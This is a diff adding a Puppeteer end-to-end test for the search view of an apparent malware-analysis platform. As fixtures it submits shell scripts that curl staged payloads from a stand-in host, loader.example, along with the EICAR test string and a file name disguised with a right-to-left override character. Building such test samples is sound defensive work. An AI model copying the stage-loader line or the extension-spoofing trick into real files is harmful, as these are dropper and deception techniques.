@@ -1,0 +1,213 @@
+import assert from "node:assert/strict";
+import type { ElementHandle, Page } from "puppeteer-core";
+import { type Platform, startPlatform } from "../platform/platform.ts";
+import { findBreaches, openPage, takePicture } from "./browser.ts";
+
+const WAIT = { timeout: 30_000 };
+
+/** Hands in small files and waits until they can be found. */
+async function analyse(platform: Platform, files: readonly File[], tags: readonly string[]): Promise<void> {
+  const body = new FormData();
+  for (const file of files) body.append("file", file);
+  body.append("options", JSON.stringify({ tags, priority: "interactive" }));
+  const { tasks } = await platform.ask<{ tasks: { id: string }[] }>("/api/v1/submissions", {
+    method: "POST",
+    body,
+  });
+  const open = new Set(tasks.map(({ id }) => id));
+  const query = [...open].map((id) => `taskId=${id}`).join("&");
+  const abort = new AbortController();
+  const stream = await platform.request(`/api/v1/events?${query}`, { signal: abort.signal });
+  let text = "";
+  for await (const chunk of stream.body!.pipeThrough(new TextDecoderStream())) {
+    text += chunk;
+    for (const [, id] of text.matchAll(/"taskId":"(\w+)"[^}]*"status":"complete"/g)) open.delete(id!);
+    if (open.size === 0) break;
+  }
+  abort.abort();
+}
+
+const file = (name: string, text: string) => new File([text], name);
+const scripts = Array.from(
+  { length: 6 },
+  (_, at) => file(`loader-${at}.sh`, `#!/bin/sh\necho number ${at}\ncurl http://loader.example/stage${at}\n`),
+);
+const papers = Array.from(
+  { length: 4 },
+  (_, at) => file(`paper-${at}.txt`, `The plain paper number ${at}\n`),
+);
+const EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+const eicar = file("eicar.com", EICAR);
+const turned = file("invoice\u202Efdp.txt", "An invoice for nobody\n");
+
+/** Signs in and opens the search. */
+async function openSearch(page: Page, platform: Platform): Promise<void> {
+  await page.goto(`${platform.url}?view=search`);
+  const key = await page.waitForSelector(">>> input[name=key]", WAIT);
+  await key!.type(platform.key);
+  await page.keyboard.press("Enter");
+  await page.waitForSelector(">>> tr.hit", WAIT);
+}
+
+async function queryOf(page: Page): Promise<string> {
+  return await page.$eval(
+    ">>> input[role=combobox]",
+    (input) => (input as unknown as { value: string }).value,
+  );
+}
+
+/** Waits until the query says that, and the results are there. */
+async function waitForQuery(page: Page, query: string): Promise<void> {
+  await page.waitForFunction(
+    (wanted) => new URLSearchParams(location.search).get("q") === wanted,
+    WAIT,
+    query,
+  );
+  assert.equal(await queryOf(page), query);
+}
+
+// deno-lint-ignore no-explicit-any -- this name exists in the page only
+declare const location: any;
+// deno-lint-ignore no-explicit-any
+declare const document: any;
+
+async function waitForHits(page: Page, count: number): Promise<void> {
+  await page.waitForFunction(
+    (wanted) => {
+      // deno-lint-ignore no-explicit-any
+      const app = (globalThis as any).document.querySelector("assay-app").shadowRoot;
+      const results = app.querySelector("assay-search").shadowRoot.querySelector("assay-results");
+      return results.pages.state.kind === "complete" && results.pages.total.value === wanted;
+    },
+    WAIT,
+    count,
+  );
+}
+
+async function press(page: Page, ...keys: Parameters<Page["keyboard"]["press"]>[0][]): Promise<void> {
+  for (const key of keys) await page.keyboard.press(key);
+}
+
+async function find(page: Page, selector: string): Promise<ElementHandle> {
+  return (await page.waitForSelector(`>>> ${selector}`, WAIT))!;
+}
+
+Deno.test("a query is typed with suggestions, told where it is wrong, and narrowed by values, facets and a span", async () => {
+  await using platform = await startPlatform({ onTestStack: true });
+  await analyse(platform, [...scripts, ...papers, turned, eicar], ["from-test"]);
+  await using browser = await openPage();
+  const { page, errors } = browser;
+  await openSearch(page, platform);
+  await waitForHits(page, 12);
+  await find(page, "canvas");
+  assert.deepEqual(await findBreaches(page), []);
+  await takePicture(page, "search");
+
+  // Suggestions of fields and values, by keyboard.
+  const box = await find(page, "input[role=combobox]");
+  await box.click();
+  await page.keyboard.type("fileT");
+  await find(page, "li[role=option]");
+  await press(page, "ArrowDown", "Enter");
+  assert.equal(await queryOf(page), "fileType:");
+  const value = await find(page, "li[role=option] ::-p-text(text)");
+  await takePicture(page, "search-suggestions");
+  assert.deepEqual(await findBreaches(page), []);
+  await value.click();
+  await press(page, "Enter");
+  await waitForQuery(page, "fileType:text");
+
+  // An error has its place and a hint.
+  await box.click({ count: 3 });
+  await page.keyboard.type("verdct:malicious tag:a");
+  const error = await find(page, "#said .error");
+  assert.match(
+    await error.evaluate((p) => p.textContent!),
+    /character 1: expected the name of a field.*verdict/s,
+  );
+  await takePicture(page, "search-error");
+  assert.deepEqual(await findBreaches(page), []);
+
+  // A module says where a hit is.
+  await box.click({ count: 3 });
+  await page.keyboard.type("loader.example");
+  await press(page, "Enter");
+  await waitForHits(page, 6);
+  const mark = await find(page, "mark");
+  assert.equal(await mark.evaluate((m) => m.textContent), "loader.example");
+  assert.match(
+    await page.$eval(">>> .module", (m) => m.textContent!),
+    /strings/,
+  );
+  assert.deepEqual(await findBreaches(page), []);
+  await takePicture(page, "search-matches");
+
+  // A value is added by the mouse, and another excluded by the keyboard; both are in the address.
+  await (await find(page, "tr.hit button[data-field=fileType]")).click();
+  await find(page, "[role=menuitem]:focus");
+  assert.deepEqual(await findBreaches(page), []);
+  await takePicture(page, "search-pivot");
+  await press(page, "ArrowDown", "Enter");
+  await waitForQuery(page, "loader.example fileType:shell");
+  await waitForHits(page, 6);
+  await page.focus(">>> button[data-field=name][data-value='loader-3.sh']");
+  await press(page, "Enter");
+  await find(page, "[role=menuitem]:focus");
+  await press(page, "x");
+  await waitForQuery(page, "loader.example fileType:shell NOT name:=loader-3.sh");
+  await waitForHits(page, 5);
+
+  // Back goes back; a facet narrows, and narrows no more when it is pressed again.
+  await page.goBack();
+  await waitForQuery(page, "loader.example fileType:shell");
+  await page.goBack();
+  await waitForQuery(page, "loader.example");
+  await waitForHits(page, 6);
+  await box.click({ count: 3 });
+  await press(page, "Backspace", "Escape", "Enter");
+  await waitForHits(page, 12);
+  await (await find(page, "button.leave[aria-label='Exclude fileType shell']")).click();
+  await waitForQuery(page, "NOT fileType:shell");
+  await waitForHits(page, 6);
+  await (await find(page, "button.leave[data-drop='NOT fileType:shell']")).click();
+  await waitForHits(page, 12);
+
+  // The histogram is narrowed by keyboard, over sizes.
+  const over = await find(page, "assay-histogram >>> select");
+  await over.select("size");
+  await find(page, "assay-histogram >>> button.link[data-at='1']");
+  await page.focus(">>> .plot");
+  await press(page, "ArrowRight", "Enter");
+  await page.waitForFunction(() => /size/.test(new URLSearchParams(location.search).get("q") ?? ""), WAIT);
+  await takePicture(page, "search-span");
+  assert.deepEqual(await findBreaches(page), []);
+
+  // Keys: help, an example of it, the first rows, one unfolded, one opened; the results are there when one comes back.
+  await page.goto(`${platform.url}?view=search&q=fileType:shell`);
+  await waitForHits(page, 6);
+  await press(page, "?");
+  const example = await find(page, "button.link[data-text='ip:10.0.0.0/8']");
+  await find(page, "td ::-p-text(Shannon entropy of the whole file)");
+  assert.deepEqual(await findBreaches(page), []);
+  await page.emulateMediaFeatures([{ name: "prefers-color-scheme", value: "dark" }]);
+  assert.deepEqual(await findBreaches(page), []);
+  await takePicture(page, "search-help-dark");
+  await example.click();
+  await page.waitForFunction(() => document.activeElement.shadowRoot.querySelector("assay-search"), WAIT);
+  assert.equal(await queryOf(page), "ip:10.0.0.0/8");
+  await (await find(page, "h1")).click();
+  await find(page, "assay-task-list");
+  await page.goBack();
+  await press(page, "?", "j", "j", "x", "e");
+  await find(page, "tr.more");
+  assert.deepEqual(await findBreaches(page), []);
+  await takePicture(page, "search-unfolded-dark");
+  await press(page, "o");
+  await find(page, "article");
+  await (await find(page, "button.back")).click();
+  await find(page, "tr.hit.current");
+  await page.setViewport({ width: 420, height: 860 });
+  assert.deepEqual(await findBreaches(page), []);
+  await takePicture(page, "search-narrow-dark");
+  assert.deepEqual(errors, []);
+});
